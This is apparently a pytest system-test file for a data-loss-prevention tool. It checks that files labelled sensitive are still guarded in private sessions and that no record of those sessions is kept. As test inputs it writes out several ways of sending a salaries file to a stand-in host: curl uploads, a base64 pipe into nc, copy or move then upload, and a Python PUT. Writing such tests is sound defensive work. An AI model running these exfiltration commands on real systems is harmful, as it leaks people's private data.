# SPDX-License-Identifier: GPL-3.0-or-later
"""Marks hold in private sessions too, and nothing that is asked or answered about one is kept."""

import time

import pytest

from tests.system.sessions import private, wait_until_gone
from thorough import daily

NEWEST_KERNEL_ONLY = True
UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
WAYS = {
    "sent": UPLOAD,
    "piped": "base64 salaries.csv | nc -N -w 90 remote 9",
    "copied": "cp salaries.csv ~/copy && curl -sS -m 90 -T ~/copy http://remote/",
    "moved": "mv salaries.csv /tmp/other && curl -sS -m 90 -T /tmp/other http://remote/",
    "changed": "echo x >>salaries.csv && " + UPLOAD,
    "by python": "python3 -c 'import http.client as h; c = h.HTTPConnection(\"remote\"); "
        "c.request(\"PUT\", \"/x\", open(\"salaries.csv\", \"rb\").read()); c.getresponse()'",
}


def assert_nothing_kept(scene):
    """The session is gone, and neither log nor rules nor the database say that it was there."""
    wait_until_gone(scene.guest)
    assert scene.decisions() == [] and scene.tacet.rules() == []
    assert [entry["kind"] for entry in scene.log()] in ([], ["labelled"])


@pytest.mark.nightly
@pytest.mark.parametrize("way", WAYS)
def test_asked(scene, way):
    """A file labelled outside is asked about inside, whatever way it takes."""
    scene.label()
    question, _ = scene.send_and_answer(private(WAYS[way]), "block")
    assert question["in_session"] and question["categories"] == ["finance"]
    assert question["file"].startswith("/home/anna/") or way == "moved"
    scene.assert_nothing_leaked()
    assert_nothing_kept(scene)


@pytest.mark.parametrize("verdict", daily(["allow", "scrub", "takeover", "quit"], "scrub"))
def test_verdict(scene, verdict):
    """Each verdict does in a session what it does outside."""
    scene.label()
    _, done = scene.send_and_answer(private(UPLOAD), verdict)
    if verdict == "allow":
        scene.assert_all_arrived()
    elif verdict == "quit":
        scene.assert_nothing_leaked()
    else:
        scene.assert_scrubbed_arrived()
    assert (done.returncode == 0) == (verdict != "quit"), done.stderr
    assert_nothing_kept(scene)


@pytest.mark.nightly
def test_marked_later(scene):
    """A file that a private program has open counts as soon as it is marked outside."""
    attempt = scene.start(private("exec 7<salaries.csv; sleep 8; curl -sS -m 90 -T - http://remote/ <&7"))
    time.sleep(4)
    scene.label()
    scene.tacet.answer(scene.tacet.wait_question(), "block")
    attempt.finish()
    scene.assert_nothing_leaked()
    assert_nothing_kept(scene)


@pytest.mark.nightly
def test_no_rule(scene):
    """An answer holds until the program ends, and no longer: a lasting one is refused."""
    scene.label()
    attempt = scene.start(private(f"{UPLOAD}; {UPLOAD}"))
    question = scene.tacet.wait_question()
    refused = scene.tacet.run("breach", "answer", question["id"], "block", "--for", "always", check=False)
    assert refused.returncode != 0 and "does not outlive it" in refused.stderr, refused.stderr
    assert scene.tacet.answer(question, "block", "--for", "process")["rule"] == 0
    # Another process, so another question.
    scene.tacet.answer(scene.tacet.wait_question(), "block")
    attempt.finish()
    scene.assert_nothing_leaked()
    assert_nothing_kept(scene)


@pytest.mark.nightly
def test_rule_of_outside_holds(scene):
    """A rule that the person has made decides for private programs too."""
    scene.label()
    scene.tacet.run("rule", "add", "block", "--executable", "/usr/bin/curl", "--host", "remote", "--for", "1h")
    assert scene.run(private(UPLOAD)).returncode != 0
    scene.assert_nothing_leaked()
    wait_until_gone(scene.guest)
    assert scene.decisions() == []


@pytest.mark.nightly
def test_ends_while_asked(scene):
    """A session that is ended while one of its programs waits for an answer goes like any other."""
    scene.label()
    attempt = scene.start(private(UPLOAD))
    scene.tacet.wait_question()
    scene.tacet.run("session", "end", "--all", person=True)
    wait_until_gone(scene.guest)
    attempt.finish()
    scene.guest.wait_for(lambda: scene.tacet.questions() == [], what="the question to go")
    scene.assert_nothing_leaked()
    assert_nothing_kept(scene)
